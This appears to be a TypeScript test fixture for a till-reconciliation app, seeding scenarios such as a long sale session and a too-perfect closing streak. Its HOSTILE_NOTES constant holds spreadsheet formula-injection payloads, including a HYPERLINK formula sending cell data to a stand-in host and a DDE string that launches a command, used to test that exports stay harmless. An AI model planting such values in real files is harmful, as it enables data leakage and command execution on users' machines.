import type { Story } from "./story.ts";

/** Notes to hold against a spreadsheet: each would be a formula, or break a line or a column. */
export const HOSTILE_NOTES = {
  opening: '=HYPERLINK("http://example.invalid/?x="&A1,"Opening float")',
  adjustment: '@SUM(1+1)*cmd|"/C calc"!A0',
  payIn: '-5 taken back, +5 put in; "Mia\'s" envelope',
  closing: 'Counted "twice",\nthen once more; all fine 🙂, é and 你好',
};

/** What matters because of what the records look like. */
export const RECORDS: Story[] = [
  {
    id: "hostile-notes",
    title: "Notes that a spreadsheet would run",
    location: "Brooklyn",
    drawer: "Café till",
    when: "about 6 days ago",
    what: "The opening note begins with an equals sign, one adjustment's with @, another's with a minus; the closing note has quotes, a comma, a line break and emoji. Exports must carry them unharmed and harmless.",
    plant: (shop) =>
      shop.one("brooklyn-cafe", 6, {
        openingNote: HOSTILE_NOTES.opening,
        closingNote: HOSTILE_NOTES.closing,
        extraSteps: [
          { at: 0.3, kind: "adjust", cash: -12_50n, reason: "PETTY_CASH", note: HOSTILE_NOTES.adjustment },
          { at: 0.7, kind: "adjust", cash: 5_00n, reason: "OTHER", note: HOSTILE_NOTES.payIn },
        ],
      }),
  },
  {
    id: "long-session",
    title: "A session with hundreds of activities",
    location: "SoHo",
    drawer: "Side counter",
    when: "about 21 days ago",
    what: "The warehouse sale: one session with more than 250 activities, more than one page of Shopify's answer holds.",
    plant: (shop) => shop.one("soho-side", 21, { sales: 190, openingNote: "Warehouse sale" }),
  },
  {
    id: "too-perfect",
    title: "A streak that is too perfect",
    location: "Kuwait City",
    drawer: "Gift desk",
    when: "the last 40 sessions",
    what: "Forty closings in a row without a single fils of difference, all by Ravi Menon, on a drawer that used to be off by some coins every third day. Perhaps nobody counts and the expectation is typed in.",
    plant(shop) {
      return shop
        .ended("kuwait-gifts")
        .slice(-40)
        .map((plan) => {
          plan.closedBy = plan.openedBy;
          return shop.twist(plan, { openingError: 0n, closingError: 0n, isQuiet: true });
        });
    },
  },
];
